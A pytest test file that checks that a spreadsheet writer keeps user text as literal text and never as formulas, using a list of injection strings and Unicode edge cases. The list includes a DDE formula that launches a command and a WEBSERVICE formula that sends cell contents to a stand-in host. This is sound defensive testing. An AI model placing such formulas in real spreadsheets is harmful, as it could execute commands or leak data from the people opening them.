"""Whatever people typed stays text: no cell of ours is ever a formula, and nothing in the text is lost."""

import zipfile
from io import BytesIO

import openpyxl
import pytest

from ecocounty.sheets import Column, Row, Table, read_workbook, write_table, write_workbook

PAYLOADS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://example.invalid","點此")',
    '=WEBSERVICE("http://example.invalid/"&A1)',
    "=DDE(server,topic,item)",
    "+1+1",
    "-1+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\u200b=1+1",
    "'=1+1",
    "=",
    "==1",
    "{=1+1}",
    "=1+1\r\n=2+2",
    "#N/A",
    "TRUE",
    "007",
    "3-1",
    "1E5",
    "_x000D_",
    "_x005F_x000D_",
    "x_x0041_y",
    "a\x01b\x0bc\x1f",
    "<b>&amp;</b>",
    "]]>",
    "\u202e反",
    "𠀀𪚥",
    "\ufffe\uffff",
    " 前後有空格 ",
    "第一行\n第二行",
    "中" * 2000,
)


def make_payload_table(tag: str = "payloads") -> Table:
    columns = (
        Column("fixed", "固定", 20),
        Column("free", "填寫", 20, editable=True),
        Column("n", "數", 9, "number"),
    )
    rows = tuple(
        Row(f"r{number}", {"fixed": text, "free": text, "n": text}) for number, text in enumerate(PAYLOADS)
    )
    return Table(tag, "=表", PAYLOADS[0], PAYLOADS, columns, rows, PAYLOADS)


@pytest.fixture(scope="module", params=["workbook", "table"])
def written(request):
    table = make_payload_table()
    return write_workbook([table], token="=1+1") if request.param == "workbook" else write_table(table)


def test_no_cell_is_a_formula(written):
    for sheet in openpyxl.load_workbook(BytesIO(written)):
        assert [cell.coordinate for row in sheet for cell in row if cell.data_type == "f"] == []


def test_no_formula_element_stands_in_the_raw_sheets(written):
    with zipfile.ZipFile(BytesIO(written)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    assert sheets
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)


@pytest.mark.parametrize("number", range(len(PAYLOADS)), ids=[ascii(text)[:24] for text in PAYLOADS])
def test_each_text_comes_back_unchanged(number, payload_rows):
    cells = payload_rows[f"r{number}"]
    assert [cells[tag].value for tag in ("fixed", "free", "n")] == [PAYLOADS[number]] * 3
    assert {cell.kind for cell in cells.values()} == {"text"}


@pytest.fixture(scope="module")
def payload_rows():
    book = read_workbook(write_workbook([make_payload_table()], token="=1+1"))
    assert book.token == "=1+1"
    return book.tables["payloads"].rows


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@a", "\t=1", "＝1"])
def test_f2_and_enter_do_not_make_a_formula_of_it(text):
    table = Table(
        "t", "表", "表", (), (Column("c", "c", 9),), (Row("r", {"c": text}), Row("s", {"c": "平常"}))
    )
    sheet = openpyxl.load_workbook(BytesIO(write_table(table)))["表"]
    assert [sheet.cell(row, 1).quotePrefix for row in (3, 4)] == [True, False]


def test_what_no_xml_and_no_database_holds_is_shown_as_written():
    table = Table(
        "t", "表", "表", (), (Column("c", "c", 9),), (Row("r", {"c": "a\x00b"}), Row("s", {"c": "a\ud800b"}))
    )
    rows = read_workbook(write_workbook([table], token="t")).tables["t"].rows
    assert [rows[tag]["c"].value for tag in ("r", "s")] == ["a_x0000_b", "a\ufffdb"]


def test_a_text_longer_than_a_cell_shows_that_it_was_cut():
    table = Table("t", "表", "表", (), (Column("c", "c", 9),), (Row("r", {"c": "長" * 40_000}),))
    value = read_workbook(write_workbook([table], token="t")).tables["t"].rows["r"]["c"].value
    assert (len(value), value[-2:]) == (32_767, "長…")
